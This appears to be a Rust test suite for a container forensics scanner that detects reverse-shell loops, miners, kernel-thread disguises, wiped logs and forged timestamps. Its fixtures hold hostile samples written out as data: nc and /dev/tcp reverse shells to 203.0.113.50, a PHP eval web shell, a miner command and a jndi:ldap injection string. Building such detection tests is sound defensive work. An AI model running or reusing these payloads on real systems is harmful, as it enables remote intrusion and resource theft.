//! Behaviour from any source, through the binary, on evidence of shapes the rules were not
//! written against: loops relaunching a shell (a Python loop with no shebang in a committed
//! OCI layout, a busybox loop with variables in an export, `sh -c` and `watch` in `ps`),
//! miners by their arguments (a dot-named program started from rc.local, a disguised
//! process), kernel-thread disguises, application logs wiped (whiteout, export, saved diff;
//! rotation is not wiping), and forged mtimes bounded by clocks the attacker did not set.

use serde_json::Value;

use crate::image_build::{sha, step, Image, Step};
use crate::util::{run_json, write_files};

/// 2026-01-01T00:00:00Z: the base image.
const BASE_TIME: &str = "2026-01-01T00:00:00Z";
/// 2026-01-15T00:00:00Z: when the attacker worked.
const ATTACK: u64 = 1_768_435_200;
/// 2020-01-01T00:00:00Z: a forged mtime, older than every image.
const STOMPED: u64 = 1_577_836_800;
/// 2026-01-10T00:00:00Z: the container's creation.
const CREATED: &str = "2026-01-10T00:00:00Z";

/// A tar entry for [`tar_of`].
enum E<'a> {
    Dir(u64),
    File(&'a [u8], u64),
}

/// A layer or filesystem tar of `entries` (path, entry), in order.
fn tar_of(entries: &[(&str, E)]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (path, e) in entries {
        let mut h = tar::Header::new_gnu();
        let (kind, data, mtime, mode): (_, &[u8], u64, u32) = match e {
            E::Dir(t) => (tar::EntryType::Directory, &[], *t, 0o755),
            E::File(d, t) => (tar::EntryType::Regular, d, *t, 0o755),
        };
        h.set_entry_type(kind);
        h.set_size(data.len() as u64);
        h.set_mtime(mtime);
        h.set_mode(mode);
        h.set_uid(0);
        h.set_gid(0);
        b.append_data(&mut h, path, data).unwrap();
    }
    b.into_inner().unwrap()
}

const OLD: u64 = 1_767_225_600; // 2026-01-01T00:00:00Z

fn base_layer() -> Vec<u8> {
    tar_of(&[
        ("etc", E::Dir(OLD)),
        ("etc/rc.local", E::File(b"#!/bin/sh\nexit 0\n", OLD)),
        ("opt", E::Dir(OLD)),
        ("opt/shop", E::Dir(OLD)),
        ("opt/shop/logs", E::Dir(OLD)),
        ("opt/shop/logs/app.log", E::File(&[b'a'; 5000], OLD)),
        ("usr", E::Dir(OLD)),
        ("usr/local", E::Dir(OLD)),
        ("usr/local/tomcat", E::Dir(OLD)),
        ("usr/local/tomcat/logs", E::Dir(OLD)),
        ("usr/local/tomcat/logs/catalina.out", E::File(&[b'c'; 3000], OLD)),
        ("usr/local/tomcat/webapps", E::Dir(OLD)),
        ("usr/local/tomcat/webapps/ROOT", E::Dir(OLD)),
        ("usr/local/tomcat/webapps/ROOT/index.jsp", E::File(b"<html>shop</html>", OLD)),
        ("var", E::Dir(OLD)),
        ("var/log", E::Dir(OLD)),
        ("var/log/nginx", E::Dir(OLD)),
        ("var/log/nginx/access.log", E::File(&[b'n'; 2000], OLD)),
        ("var/tmp", E::Dir(OLD)),
    ])
}

/// The container's changes as `docker commit` saved them.
fn commit_layer() -> Vec<u8> {
    let updater = b"import os, time\nwhile True:\n    os.system(\"nc -e /bin/sh 203.0.113.50 9001\")\n    time.sleep(120)\n";
    tar_of(&[
        ("etc", E::Dir(ATTACK)),
        (
            "etc/rc.local",
            E::File(b"#!/bin/sh\n/dev/shm/.x -o 198.51.100.77:3333 -u shop1 -p x &\nexit 0\n", ATTACK),
        ),
        ("opt", E::Dir(OLD)),
        ("opt/shop", E::Dir(OLD)),
        ("opt/shop/logs", E::Dir(ATTACK)),
        ("opt/shop/logs/app.log", E::File(b"", ATTACK + 60)),
        ("usr", E::Dir(OLD)),
        ("usr/local", E::Dir(OLD)),
        ("usr/local/tomcat", E::Dir(OLD)),
        ("usr/local/tomcat/logs", E::Dir(ATTACK + 120)),
        ("usr/local/tomcat/logs/.wh.catalina.out", E::File(b"", ATTACK + 120)),
        ("usr/local/tomcat/webapps", E::Dir(OLD)),
        ("usr/local/tomcat/webapps/ROOT", E::Dir(ATTACK + 30)),
        ("usr/local/tomcat/webapps/ROOT/help.jsp", E::File(b"<html>help</html>", STOMPED)),
        ("var", E::Dir(OLD)),
        ("var/log", E::Dir(OLD)),
        ("var/log/nginx", E::Dir(ATTACK)),
        ("var/log/nginx/access.log", E::File(b"", ATTACK)),
        ("var/log/nginx/access.log.1", E::File(&[b'n'; 2000], ATTACK)),
        ("var/tmp", E::Dir(ATTACK)),
        ("var/tmp/.cache", E::Dir(ATTACK)),
        ("var/tmp/.cache/updater", E::File(updater, ATTACK)),
    ])
}

fn committed_image() -> Image {
    let mut img = Image::new("evidence/shop:case-7")
        .layer(base_layer(), step(BASE_TIME, "/bin/sh -c #(nop) ADD file:abc in / "));
    img.cmd = vec!["catalina.sh".into(), "run".into()];
    img.history.push(Step {
        created: BASE_TIME,
        created_by: "CMD [\"catalina.sh\" \"run\"]".into(),
        comment: "buildkit.dockerfile.v0",
        empty: true,
    });
    img.created = "2026-02-01T00:00:00Z".into();
    img.layers.push((commit_layer(), commit_layer()));
    img.history.push(step("2026-02-01T00:00:00Z", "catalina.sh run"));
    img
}

fn facts(b: &Value) -> &Vec<Value> {
    b["findings"].as_array().unwrap()
}

/// The fact whose rules include `rule` and whose title names `path`.
fn fact<'a>(b: &'a Value, rule: &str, path: &str) -> &'a Value {
    facts(b)
        .iter()
        .find(|f| {
            f["rules"].as_array().unwrap().iter().any(|r| r == rule)
                && f["title"].as_str().unwrap_or("").contains(path)
        })
        .unwrap_or_else(|| panic!("no {rule} fact on {path}: {:#?}", titles(b)))
}

fn titles(b: &Value) -> Vec<String> {
    facts(b).iter().map(|f| format!("{} {}", f["title"].as_str().unwrap_or(""), f["rules"])).collect()
}

fn iocs(f: &Value) -> Vec<String> {
    f["iocs"]
        .as_array()
        .map(|a| {
            a.iter()
                .map(|i| {
                    format!(
                        "{} {} {}",
                        i["type"].as_str().unwrap(),
                        i["value"].as_str().unwrap(),
                        i["role"].as_str().unwrap()
                    )
                })
                .collect()
        })
        .unwrap_or_default()
}

#[test]
fn committed_oci_layout_loop_miner_log_wiping_and_a_bounded_timestomp() {
    let dir = tempfile::tempdir().unwrap();
    committed_image().oci_dir(&dir.path().join("evidence-image"));
    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
    let b = &v["bundles"][0];

    // A Python loop, no shebang, no extension: persistence and command and control.
    let l = fact(b, "file.persistence.loop", "/var/tmp/.cache/updater");
    assert_eq!(
        (l["severity"].as_str(), l["category"].as_str()),
        (Some("critical"), Some("command-and-control"))
    );
    assert!(
        l["summary"]
            .as_str()
            .unwrap()
            .contains("`while True:` loop relaunches a reverse shell, callback 203.0.113.50:9001"),
        "{}",
        l["summary"]
    );
    assert_eq!(
        iocs(l),
        ["ip 203.0.113.50 callback", "port 9001 callback", "endpoint 203.0.113.50:9001 callback"]
    );
    // A miner started from rc.local by its arguments only: no stratum, no xmrig, a dot name.
    let m = fact(b, "file.miner.args", "/etc/rc.local");
    assert!(m["rules"].as_array().unwrap().iter().any(|r| r == "file.persistence.init"));
    assert_eq!(
        iocs(m),
        ["ip 198.51.100.77 mining-pool", "port 3333 mining-pool", "endpoint 198.51.100.77:3333 mining-pool"]
    );

    // The application's logs: catalina.out by whiteout, app.log cut to 0; nginx's access.log
    // truncated beside its rotated copy is log rotation.
    let w = fact(b, "file.antiforensics.logs", "/");
    let all = format!("{} {}", w["title"], w["summary"]);
    assert!(all.contains("/usr/local/tomcat/logs/catalina.out"), "{all}");
    assert!(all.contains("/opt/shop/logs/app.log"), "{all}");
    assert!(!all.contains("nginx"), "rotation is not wiping: {all}");

    // help.jsp claims 2020; the image says 2026-01-01 and its directory was written
    // 2026-01-15T00:00:30Z: the real write is between them.
    let t = fact(b, "file.timestomp", "/usr/local/tomcat/webapps/ROOT/help.jsp");
    let when = &t["when"];
    assert_eq!(when["not_before"], "2026-01-01T00:00:00.000000000Z", "{when}");
    assert_eq!(when["not_after"], "2026-01-15T00:00:30.000000000Z", "{when}");
    assert!(when.get("time").is_none(), "{when}");
    let basis = when["basis"].as_str().unwrap();
    assert!(
        basis.contains("after image evidence/shop:case-7 created, at or before its directory's mtime"),
        "{basis}"
    );
    assert!(basis.contains("its mtime 2020-01-01T00:00:00Z is forged"), "{basis}");
    assert!(t["summary"].as_str().unwrap().contains("2020-01-01"), "the claimed time stays in the summary");
}

const CID: &str = "7d1c0ffee7d1c0ffee7d1c0ffee7d1c0ffee7d1c0ffee7d1c0ffee7d1c0ffee00";

/// The container's inspect, naming `image` (the config's sha256) as the image it ran from.
fn inspect(image: &str) -> String {
    format!(
        r#"[{{"Id": "{CID}", "Created": "{CREATED}", "Path": "httpd-foreground", "Args": [],
  "State": {{"Status": "running", "Running": true, "Paused": false, "Restarting": false, "OOMKilled": false,
            "Dead": false, "Pid": 100, "ExitCode": 0, "Error": "", "StartedAt": "2026-01-10T00:00:01Z",
            "FinishedAt": "0001-01-01T00:00:00Z"}},
  "Image": "sha256:{image}",
  "Name": "/shop", "HostConfig": {{"NetworkMode": "bridge"}},
  "Config": {{"Hostname": "7d1c0ffee7d1", "Cmd": ["httpd-foreground"], "Image": "shop/php:1"}},
  "NetworkSettings": {{"IPAddress": "172.17.0.9", "Networks": {{}}}}}}]"#
    )
}

fn php_image() -> Image {
    let base = tar_of(&[
        ("usr", E::Dir(OLD)),
        ("usr/local", E::Dir(OLD)),
        ("usr/local/apache2", E::Dir(OLD)),
        ("usr/local/apache2/logs", E::Dir(OLD)),
        ("usr/local/apache2/logs/access_log", E::File(&[b'x'; 4000], OLD)),
        ("usr/local/bin", E::Dir(OLD)),
        ("var", E::Dir(OLD)),
        ("var/www", E::Dir(OLD)),
        ("var/www/html", E::Dir(OLD)),
        ("var/www/html/index.php", E::File(b"<?php echo 'shop'; ?>", OLD)),
    ]);
    let mut img =
        Image::new("shop/php:1").layer(base, step(BASE_TIME, "/bin/sh -c #(nop) ADD file:def in / "));
    img.cmd = vec!["httpd-foreground".into()];
    img
}

/// `docker export`: the image's files, minus the access log, plus the attacker's.
fn export() -> Vec<u8> {
    let health = b"#!/bin/sh\nH=203.0.113.50\nP=8443\nwhile sleep 30; do busybox nc $H $P -e sh; done\n";
    tar_of(&[
        (".dockerenv", E::File(b"", ATTACK)),
        ("usr", E::Dir(OLD)),
        ("usr/local", E::Dir(OLD)),
        ("usr/local/apache2", E::Dir(OLD)),
        ("usr/local/apache2/logs", E::Dir(ATTACK + 900)),
        ("usr/local/bin", E::Dir(ATTACK)),
        ("usr/local/bin/healthcheck", E::File(health, ATTACK)),
        ("var", E::Dir(OLD)),
        ("var/www", E::Dir(OLD)),
        ("var/www/html", E::Dir(ATTACK + 3600)),
        ("var/www/html/index.php", E::File(b"<?php echo 'shop'; ?>", OLD)),
        ("var/www/html/up.php", E::File(b"<?php @eval($_POST['x']); ?>", STOMPED)),
    ])
}

fn json_log() -> String {
    let line = "203.0.113.50 - - [15/Jan/2026:00:10:00 +0000] \\\"GET /up.php?cmd=id HTTP/1.1\\\" 200 12 \\\"-\\\" \\\"curl/8.5.0\\\"\\n";
    format!("{{\"log\":\"{line}\",\"stream\":\"stdout\",\"time\":\"2026-01-15T00:10:00.5Z\"}}\n")
}

const TOP: &str = "  PID  PPID USER     STARTED                  COMMAND
  100     1 root     Sat Jan 10 00:00:01 2026 httpd -DFOREGROUND
  200   100 www-data Thu Jan 15 00:05:00 2026 [kworker/1:2] --config /tmp/.c -o 198.51.100.77:3333 -u shop1 -p x
  300   100 www-data Thu Jan 15 00:06:00 2026 sh -c while :; do bash -i >& /dev/tcp/203.0.113.50/443 0>&1; sleep 5; done
  301   300 www-data Thu Jan 15 00:06:00 2026 bash -i
";

#[test]
fn export_with_inspect_log_and_ps_disguise_loops_wiped_log_and_a_log_bound() {
    let dir = tempfile::tempdir().unwrap();
    write_files(
        dir.path(),
        &[
            ("image.tar", &php_image().docker_save()),
            ("export.tar", &export()),
            ("inspect.json", inspect(&sha(php_image().config().as_bytes())).as_bytes()),
            (&format!("{CID}-json.log"), json_log().as_bytes()),
            ("top.txt", TOP.as_bytes()),
        ],
    );
    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
    let b = &v["bundles"][0];

    // A loop in an ordinary-looking file outside /tmp, its target in variables.
    let l = fact(b, "file.persistence.loop", "/usr/local/bin/healthcheck");
    assert_eq!(iocs(l), ["ip 203.0.113.50 callback", "port 8443 callback"]);
    assert_eq!(l["owner"]["name"], "shop", "{}", l["owner"]);

    // The access log is in the image, not in the export: deleted by the container.
    let w = fact(b, "file.antiforensics.logs", "/usr/local/apache2/logs/access_log");
    assert!(w["summary"].as_str().unwrap().contains("deleted"), "{}", w["summary"]);

    // The process posing as a kernel thread, with a user-space parent and arguments: a
    // disguise and a miner by its arguments, one fact.
    let k = fact(b, "proc.kthread-lookalike", "");
    assert!(k["rules"].as_array().unwrap().iter().any(|r| r == "proc.miner"), "{}", k["rules"]);
    let ks = k["summary"].as_str().unwrap_or("");
    assert!(ks.contains("named [kworker/1:2] but has arguments (--config /tmp/.c -o"), "{ks}");
    assert!(ks.contains("parent httpd (100) is a user-space process, not kthreadd"), "{ks}");
    assert!(iocs(k).contains(&"ip 198.51.100.77 mining-pool".to_string()), "{:?}", iocs(k));

    // sh -c while ...: the loop is persistence and command and control.
    let p = fact(b, "proc.persistence.loop", "Loop relaunching");
    assert!(p["rules"].as_array().unwrap().iter().any(|r| r == "proc.revshell"), "{}", p["rules"]);
    assert_eq!(p["category"], "persistence");
    assert!(iocs(p).contains(&"ip 203.0.113.50 callback".to_string()), "{:?}", iocs(p));

    // up.php claims 2020; the container was created 2026-01-10; it was requested (200) at
    // 00:10:00.5, before its directory's mtime (01:00): the log record bounds the write.
    let t = fact(b, "file.timestomp", "/var/www/html/up.php");
    let when = &t["when"];
    assert_eq!(when["not_before"], "2026-01-10T00:00:00.000000000Z", "{when}");
    assert_eq!(when["not_after"], "2026-01-15T00:10:00.500000000Z", "{when}");
    let basis = when["basis"].as_str().unwrap();
    assert!(
        basis.contains("after container shop was created, at or before a log record requests /up.php"),
        "{basis}"
    );
}

#[test]
fn saved_docker_diff_alone_names_the_deleted_application_log_not_rotation() {
    let dir = tempfile::tempdir().unwrap();
    let diff = "C /usr\nC /usr/local\nC /usr/local/tomcat\nC /usr/local/tomcat/logs\nD /usr/local/tomcat/logs/catalina.out\n\
                C /var\nC /var/log\nC /var/log/nginx\nC /var/log/nginx/access.log\nA /var/log/nginx/access.log.1\n\
                D /var/log/nginx/error.log.2.gz\n";
    write_files(dir.path(), &[("diff.txt", diff.as_bytes())]);
    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
    let b = &v["bundles"][0];
    let w = fact(b, "file.antiforensics.logs", "catalina.out");
    let all = format!("{} {}", w["title"], w["summary"]);
    assert!(!all.contains("nginx"), "{all}");
    assert_eq!(w["evidence"][0]["artifact"], "diff.txt");
}

#[test]
fn the_real_capture_implant_is_a_relaunch_loop_with_its_callback() {
    let p = crate::util::root().join("samples/real/docker/dataroot.tar.zst");
    let (v, _) = run_json(&["scan", p.to_str().unwrap()]);
    let b = &v["bundles"][0];
    let l = fact(b, "file.persistence.loop", "/tmp/.x/agent.sh");
    assert!(l["rules"].as_array().unwrap().iter().any(|r| r == "file.exec.hidden"));
    assert_eq!(iocs(l), ["ip 127.0.0.1 callback", "port 4444 callback", "endpoint 127.0.0.1:4444 callback"]);
    assert_eq!(l["owner"]["name"], "shop-web");
    let stages: Vec<&str> = b["chain"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|s| s["title"].as_str().unwrap_or("").contains("/tmp/.x/agent.sh"))
        .map(|s| s["stage"].as_str().unwrap())
        .collect();
    assert_eq!(stages, ["persistence", "command and control"]);
}

#[test]
fn a_hostile_ps_start_column_is_no_time_not_a_crash() {
    let dir = tempfile::tempdir().unwrap();
    let top = "UID PID PPID C STIME TTY TIME CMD\n\
               root 1 0 0 9999999999999999:59 ? 00:00:00 /tmp/x -o pool.example.net:3333 -u x\n";
    let log = "{\"log\":\"GET /?x=${jndi:ldap://198.51.100.9:1389/a} 200\\n\",\"stream\":\"stdout\",\"time\":\"2026-01-01T00:00:00Z\"}\n";
    write_files(dir.path(), &[("top.txt", top.as_bytes()), ("c-json.log", log.as_bytes())]);
    let (v, code) = run_json(&["scan", dir.path().to_str().unwrap()]);
    assert_ne!(code, 101, "a panic");
    let b = &v["bundles"][0];
    let m = fact(b, "proc.miner", "");
    assert!(m["when"].get("not_before").is_none(), "{}", m["when"]);
}
